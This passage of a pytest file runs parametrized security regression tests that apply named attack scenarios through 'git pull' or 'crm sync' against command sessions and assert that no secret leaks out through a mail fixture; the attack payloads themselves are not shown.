    layout = "inside" if name == "embedded-repository" else "top"  # at the top, git finds .git first
    world = build_world(seeds[layout], tmp_path / "w", layout, mail)
    steps = [one for one in STEPS if " ".join(one.argv) in REPRESENTATIVE]
    attack(world, [name], "git pull")
    run_session(world, steps, [name])
    mail.assert_no_secret_left()


@pytest.mark.parametrize(("layout", "pull"), [("top", "crm sync"),
                                              pytest.param("inside", "git pull", marks=pytest.mark.slow)])
def test_all_attacks_at_once_against_every_command(seeds, tmp_path, mail, layout, pull):
    world = build_world(seeds[layout], tmp_path / "w", layout, mail)
    attack(world, TOGETHER, pull)
    run_session(world, STEPS, TOGETHER)
    mail.assert_no_secret_left()


@pytest.mark.slow
@pytest.mark.parametrize("pull", ["git pull", "crm sync"])
@pytest.mark.parametrize("layout", ["top", "inside"])
@pytest.mark.parametrize("name", list(ATTACKS))
def test_every_attack_against_every_command(seeds, tmp_path, mail, name, layout, pull):
    world = build_world(seeds[layout], tmp_path / "w", layout, mail)
    attack(world, [name], pull)
    run_session(world, STEPS, [name])
    mail.assert_no_secret_left()
